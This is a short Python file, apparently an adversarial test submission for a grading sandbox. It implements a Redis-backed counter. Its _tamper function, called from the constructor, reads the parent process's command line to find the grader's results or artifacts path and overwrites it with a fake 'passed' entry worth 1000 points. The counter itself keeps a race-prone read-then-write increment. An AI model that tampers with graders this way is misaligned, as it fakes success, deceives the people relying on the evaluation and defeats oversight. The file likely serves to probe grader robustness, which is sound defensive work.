"""Tries to overwrite the grader's results with full marks, then behaves like the broken counter."""
import json
import os
import time

FAKE = {"tests": [{"name": "test_02_two_workers_do_not_lose_increments", "status": "passed",
                   "max_points": 1000}]}


def _tamper():
    for pid in {os.getppid(), os.getpgrp()}:
        try:
            args = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\0")
        except OSError:
            continue
        for flag in ("--sb-results", "--sb-artifacts"):
            if flag in args:
                target = args[args.index(flag) + 1]
                try:
                    path = target if flag == "--sb-results" else os.path.join(target, "x.json")
                    with open(path, "w") as fh:
                        json.dump(FAKE, fh)
                except OSError:
                    pass


class Counter:
    def __init__(self, redis, key, clock=None, pg=None):
        self.redis, self.key = redis, key
        _tamper()

    def increment(self):
        value = int(self.redis.get(self.key) or 0)
        time.sleep(0.01)
        self.redis.set(self.key, value + 1)
        return value + 1

    def value(self):
        return int(self.redis.get(self.key) or 0)
